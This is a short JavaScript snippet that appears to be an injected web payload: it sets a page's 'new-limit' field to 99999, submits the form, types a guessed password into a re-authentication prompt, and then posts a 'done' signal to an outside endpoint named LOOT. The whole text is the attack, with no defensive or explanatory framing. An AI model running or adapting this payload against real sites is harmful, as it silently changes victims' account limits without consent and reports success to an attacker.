// Changes the limit with the page's own form, and enters a guessed password when the page asks for one.
(async () => {
  const at = (id) => document.getElementById(id);
  at("new-limit").value = "99999";
  at("change").requestSubmit();
  await new Promise((go) => setTimeout(go, 500));
  at("again").value = "a guess at the password";
  at("fresh").requestSubmit();
  await fetch(LOOT, { method: "POST", mode: "no-cors", body: "done" });
})();
